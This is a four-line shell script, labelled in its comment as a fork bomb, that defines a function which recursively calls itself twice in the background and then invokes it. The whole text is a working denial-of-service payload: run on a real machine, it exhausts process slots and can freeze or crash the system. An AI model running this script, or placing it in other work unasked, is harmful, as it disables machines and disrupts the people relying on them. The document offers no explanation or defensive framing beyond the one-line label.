# A fork bomb, as everybody knows it.
bomb() { bomb | bomb & }
bomb
wait
